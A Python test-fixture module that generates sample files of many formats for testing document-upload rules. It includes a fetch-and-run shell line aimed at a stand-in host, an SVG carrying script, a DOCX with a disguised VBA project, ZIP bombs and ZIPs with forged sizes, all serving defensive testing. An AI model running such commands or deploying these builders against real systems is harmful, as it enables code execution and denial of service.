"""Real files of every kind the document rules meet, made here (no fixtures on disk besides
the real EDOC samples in tests/files/samples/)."""

from __future__ import annotations

import io
import os
import random
import struct
import zipfile
from collections.abc import Set
from pathlib import Path

import olefile
import xlwt
from ole_writer import compound_file
from PIL import Image


def edoc_samples() -> list[Path]:
    """The real EDOC samples kept with the tests (tests/files/samples/README.md)."""
    samples = sorted((Path(__file__).parent / "samples").glob("*.edoc"))
    assert len(samples) == 2, "tests/files/samples/*.edoc are missing"
    return samples


RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_DOCUMENT = (
    "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
)
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
XLSM_MAIN = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
ASIC_E = b"application/vnd.etsi.asic-e+zip"


def zip_bytes(entries: list[tuple[str, bytes | str]], *, stored: Set[str] = frozenset()) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries:
            method = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            archive.writestr(zipfile.ZipInfo(name, (2024, 5, 6, 7, 8, 9)), data, method)
    return out.getvalue()


def _content_types(main_part: str, main_type: str, extra: str = "") -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{main_part}" ContentType="{main_type}"/>{extra}</Types>'
    )


def _rels(target: str) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<Relationships xmlns="{RELS_NS}">'
        f'<Relationship Id="rId1" Type="{OFFICE_DOCUMENT}" Target="{target}"/></Relationships>'
    )


def _document_xml(text: str) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f"<w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"
    )


# A module constant, not written out in `docx`'s signature: mypy misreads a generator's name
# in a default value as undefined (python/mypy#9346).
DOCX_TEXT = " ".join(f"Punkts {n}: summa {n * 7919 % 104729} EUR." for n in range(150))


def docx(
    text: str = DOCX_TEXT,
    *,
    main_type: str = DOCX_MAIN,
    extra_parts: list[tuple[str, bytes | str]] | None = None,
    extra_types: str = "",
    content_types_first: bool = True,
) -> bytes:
    """A minimal WordprocessingML package; with `content_types_first=False` the parts come in
    the order LibreOffice-like writers use, and libmagic only says `application/zip`."""
    types = ("[Content_Types].xml", _content_types("word/document.xml", main_type, extra_types))
    parts: list[tuple[str, bytes | str]] = [
        ("_rels/.rels", _rels("word/document.xml")),
        ("word/document.xml", _document_xml(text)),
        *(extra_parts or []),
    ]
    return zip_bytes([types, *parts] if content_types_first else [*parts, types])


def xlsx(
    *, main_type: str = XLSX_MAIN, extra_parts: list[tuple[str, bytes | str]] | None = None
) -> bytes:
    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    r_ns = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    sheet_type = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
    rows = "".join(
        f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>Rinda {n}</t></is></c>'
        f'<c r="B{n}"><v>{n * 1234.5}</v></c></row>'
        for n in range(1, 60)
    )
    return zip_bytes(
        [
            (
                "[Content_Types].xml",
                _content_types(
                    "xl/workbook.xml",
                    main_type,
                    f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{sheet_type}"/>',
                ),
            ),
            ("_rels/.rels", _rels("xl/workbook.xml")),
            (
                "xl/workbook.xml",
                f'<?xml version="1.0" encoding="UTF-8"?><workbook {ns} {r_ns}><sheets>'
                '<sheet name="Lapa1" sheetId="1" r:id="rId1"/></sheets></workbook>',
            ),
            (
                "xl/_rels/workbook.xml.rels",
                f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELS_NS}">'
                '<Relationship Id="rId1" Target="worksheets/sheet1.xml" Type="http://schemas.'
                'openxmlformats.org/officeDocument/2006/relationships/worksheet"/>'
                "</Relationships>",
            ),
            (
                "xl/worksheets/sheet1.xml",
                f"<worksheet {ns}><sheetData>{rows}</sheetData></worksheet>",
            ),
            *(extra_parts or []),
        ]
    )


def docm() -> bytes:
    """A macro-enabled Word document: a VBA project and the macro-enabled main content type."""
    return docx(
        main_type=DOCM_MAIN,
        extra_parts=[("word/vbaProject.bin", compound_file({"VBA/dir": b"\x01" * 64}))],
        extra_types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
    )


def xlsm() -> bytes:
    return xlsx(
        main_type=XLSM_MAIN,
        extra_parts=[("xl/vbaProject.bin", compound_file({"VBA/dir": b"\x01" * 64}))],
    )


def docx_with_hidden_vba_project() -> bytes:
    """The ordinary DOCX content type, but a VBA project inside (a renamed .docm, patched)."""
    return docx(extra_parts=[("word/vbaProject.bin", compound_file({"VBA/dir": b"\x01" * 64}))])


def docx_with_activex() -> bytes:
    return docx(
        extra_parts=[("word/activeX/activeX1.xml", "<ax:ocx xmlns:ax='x'/>")],
        extra_types='<Override PartName="/word/activeX/activeX1.xml" '
        'ContentType="application/vnd.ms-office.activeX+xml"/>',
    )


def pptx() -> bytes:
    main = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
    return zip_bytes(
        [
            ("[Content_Types].xml", _content_types("ppt/presentation.xml", main)),
            ("_rels/.rels", _rels("ppt/presentation.xml")),
            ("ppt/presentation.xml", "<p:presentation xmlns:p='x'/>" + " " * 2000),
        ]
    )


def _fib() -> bytes:
    # A Word 97 File Information Block's start: wIdent 0xA5EC, nFib 0x00C1.
    return struct.pack("<HH", 0xA5EC, 0x00C1) + bytes(1020)


def doc() -> bytes:
    return compound_file({"WordDocument": _fib(), "1Table": bytes(512)})


def doc_with_macros() -> bytes:
    return compound_file(
        {
            "WordDocument": _fib(),
            "1Table": bytes(512),
            "Macros/VBA/dir": b"\x01" * 64,
            "Macros/PROJECT": b"ID=1",
        }
    )


def xls() -> bytes:
    book = xlwt.Workbook(encoding="utf-8")
    sheet = book.add_sheet("Naudas plūsma")
    for row in range(40):
        sheet.write(row, 0, f"Mēnesis {row + 1}")
        sheet.write(row, 1, 1234.5 * row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def xls_with_macros() -> bytes:
    with olefile.OleFileIO(xls()) as ole:
        workbook = ole.openstream("Workbook").read()
    return compound_file({"Workbook": workbook, "_VBA_PROJECT_CUR/VBA/dir": b"\x01" * 64})


def encrypted_office() -> bytes:
    """What Office writes for a password-protected DOCX or XLSX."""
    return compound_file(
        {"EncryptionInfo": b"\x04\x00\x04\x00" + bytes(60), "EncryptedPackage": os.urandom(2048)}
    )


def msi() -> bytes:
    return compound_file(
        {"\u4840\u3f3f": bytes(64)}, root_clsid="000C1084-0000-0000-C000-000000000046"
    )


def pdf(*, size: int | None = None, text: str = "ALTUM iesniegums") -> bytes:
    """A one-page PDF with text; `size` pads it (with a comment before `%%EOF`) to exactly
    that many bytes."""
    content = f"BT /F1 18 Tf 72 720 Td ({text}) Tj ET".encode()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n" % (len(objects) + 1, xref)
    end = b"%%EOF\n"
    if size is None:
        size = max(len(out) + len(end), 1500)
    padding = size - len(out) - len(end)
    assert padding >= 0 or size < len(out), "too small for a whole PDF"
    if padding >= 2:
        out += b"%" + b"0" * (padding - 2) + b"\n"
    elif padding == 1:
        out += b"\n"
    return bytes(out + end)


def picture(
    kind: str, size: tuple[int, int] = (64, 64), *, exif_orientation: int | None = None
) -> bytes:
    rng = random.Random(f"{kind}{size}")
    image = Image.frombytes("RGB", size, rng.randbytes(size[0] * size[1] * 3))
    out = io.BytesIO()
    options = {}
    if exif_orientation:
        exif = Image.Exif()
        exif[0x0112] = exif_orientation
        options["exif"] = exif.tobytes()
    image.save(out, kind, **options)
    return out.getvalue()


def page_photo(top: tuple[int, int, int], *, stored_turned: bool, orientation: int = 6) -> bytes:
    """A portrait 'page' whose top fifth is `top` and the rest blue. `stored_turned` keeps the
    pixels lying on their side with an EXIF orientation to stand them up, as phones do."""
    page = Image.new("RGB", (900, 1200), (0, 0, 255))
    page.paste(top, (0, 0, 900, 240))
    exif = Image.Exif()
    if stored_turned:
        page = page.rotate(90, expand=True)  # counter-clockwise; EXIF 6 turns it back
        exif[0x0112] = orientation
    out = io.BytesIO()
    page.save(out, "JPEG", quality=85, exif=exif.tobytes())
    return out.getvalue()


def dwg() -> bytes:
    return b"AC1032" + bytes(7) + os.urandom(2048)


def pe_executable() -> bytes:
    data = bytearray(4096)
    data[0:2] = b"MZ"
    struct.pack_into("<I", data, 0x3C, 0x80)
    data[0x80:0x84] = b"PE\x00\x00"
    struct.pack_into("<HH", data, 0x84, 0x14C, 1)
    return bytes(data)


def elf_executable() -> bytes:
    data = bytearray(4096)
    data[0:7] = b"\x7fELF\x02\x01\x01"
    struct.pack_into("<HHI", data, 16, 2, 0x3E, 1)
    return bytes(data)


def shell_script() -> bytes:
    return b"#!/bin/sh\ncurl -s http://example.invalid/x | sh\n" + b"# padding\n" * 120


def html_page() -> bytes:
    return (
        b"<!DOCTYPE html><html><head><title>Rekins</title></head><body>"
        + b"<p>x</p>" * 200
        + b"</body></html>"
    )


def html_after_text() -> bytes:
    return b"Rekins Nr. 5\n\n" + b"text " * 200 + b"<script>fetch('/x')</script>"


def svg_picture() -> bytes:
    return (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        b"<script>alert(1)</script>" + b"<rect width='1' height='1'/>" * 60 + b"</svg>"
    )


def plain_zip() -> bytes:
    return zip_bytes([("rekins.pdf", pdf()), ("ligums.pdf", pdf(text="Ligums"))])


def jar() -> bytes:
    return zip_bytes(
        [
            ("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\n" * 60),
            ("a/Main.class", os.urandom(900)),
        ]
    )


def zip_bomb_ratio() -> bytes:
    """A DOCX whose document part unpacks from ~30 KiB to 30 MiB (a ratio near 1000)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", _content_types("word/document.xml", DOCX_MAIN))
        archive.writestr("_rels/.rels", _rels("word/document.xml"))
        with archive.open("word/document.xml", "w", force_zip64=True) as part:
            block = b" " * (1024 * 1024)
            for _ in range(30):
                part.write(block)
    return out.getvalue()


def zip_bomb_entries(count: int = 6000) -> bytes:
    """A DOCX with thousands of tiny parts."""
    entries: list[tuple[str, bytes | str]] = [
        ("[Content_Types].xml", _content_types("word/document.xml", DOCX_MAIN)),
        ("_rels/.rels", _rels("word/document.xml")),
        ("word/document.xml", _document_xml("x")),
    ]
    entries += [(f"word/media/p{n}.xml", "") for n in range(count)]
    return zip_bytes(entries)


def with_lying_size(data: bytes, part: str) -> bytes:
    """Rewrite a part's declared uncompressed size (local header and central directory) to
    a tenth of the truth: a reader trusting it would inflate more than it declared."""
    out = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        info = archive.getinfo(part)
    smaller = max(1, info.file_size // 10)
    struct.pack_into("<I", out, info.header_offset + 22, smaller)
    struct.pack_into("<I", out, _central_entry(out, part) + 24, smaller)
    return bytes(out)


def _central_entry(data: bytearray, part: str) -> int:
    position = 0
    while (position := data.find(b"PK\x01\x02", position)) >= 0:
        name_length = struct.unpack_from("<H", data, position + 28)[0]
        if data[position + 46 : position + 46 + name_length] == part.encode():
            return position
        position += 4
    raise KeyError(part)


def with_encrypted_flag(data: bytes, part: str) -> bytes:
    """Mark one entry encrypted (general purpose flag bit 0), as a password-protected ZIP."""
    out = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        info = archive.getinfo(part)
    struct.pack_into("<H", out, info.header_offset + 6, info.flag_bits | 1)
    struct.pack_into("<H", out, _central_entry(out, part) + 8, info.flag_bits | 1)
    return bytes(out)


def asic_e(
    *,
    mimetype: bytes = ASIC_E,
    mimetype_stored: bool = True,
    mimetype_first: bool = True,
    signature: str | None = "META-INF/signatures0.xml",
    manifest: bool = True,
    extra: list[tuple[str, bytes | str]] | None = None,
) -> bytes:
    """An ASiC-E container shaped as eParaksts makes them (the signature is not a valid one:
    the rules check the shape, the consultant's software checks signatures)."""
    entries: list[tuple[str, bytes | str]] = [("Iesniegums.pdf", pdf()), *(extra or [])]
    if manifest:
        entries.append(
            (
                "META-INF/manifest.xml",
                '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest='
                '"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry '
                'manifest:full-path="/" manifest:media-type="application/vnd.etsi.asic-e+zip"/>'
                '<manifest:file-entry manifest:full-path="Iesniegums.pdf" '
                'manifest:media-type="application/pdf"/></manifest:manifest>',
            )
        )
    if signature:
        entries.append(
            (signature, "<asic:XAdESSignatures xmlns:asic='http://uri.etsi.org/02918/v1.2.1#'/>")
        )
    first = ("mimetype", mimetype)
    entries = [first, *entries] if mimetype_first else [*entries, first]
    return zip_bytes(entries, stored={"mimetype"} if mimetype_stored else set())


def legacy_edoc(*, signed: bool = True) -> bytes:
    """The eDoc 1.x shape (an OPC package with `EDoc/` parts) as e-Parakstītājs wrote it."""
    entries: list[tuple[str, bytes | str]] = [
        (
            "[Content_Types].xml",
            '<?xml version="1.0" encoding="utf-8"?><Types xmlns="http://schemas.openxmlformats.org/'
            'package/2006/content-types"><Default Extension="rels" ContentType="application/'
            'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
            'ContentType="application/xml"/><Default Extension="pdf" '
            'ContentType="application/pdf"/>'
            '<Default Extension="sgns" ContentType="application/vnd.openxmlformats-package.'
            'digital-signature-origin"/></Types>',
        ),
        ("_rels/.rels", _rels("EDoc/docProps/Base.xml")),
        ("docProps/Core.xml", "<coreProperties/>"),
        ("EDoc/_rels/manifest.xml.rels", f"<Relationships xmlns='{RELS_NS}'/>"),
        ("EDoc/docProps/Base.xml", "<Base/>"),
        ("EDoc/Documents/Iesniegums.pdf", pdf()),
    ]
    if signed:
        entries += [
            ("EDoc/Signature/origin.sgns", ""),
            (
                "EDoc/Signature/signature1.xml",
                "<Signature xmlns='http://www.w3.org/2000/09/xmldsig#'/>",
            ),
        ]
    return zip_bytes(entries)


def opendocument_text() -> bytes:
    return zip_bytes(
        [
            ("mimetype", b"application/vnd.oasis.opendocument.text"),
            ("content.xml", "<office:document-content xmlns:office='x'/>" + " " * 2000),
            ("META-INF/manifest.xml", "<manifest/>"),
        ],
        stored={"mimetype"},
    )
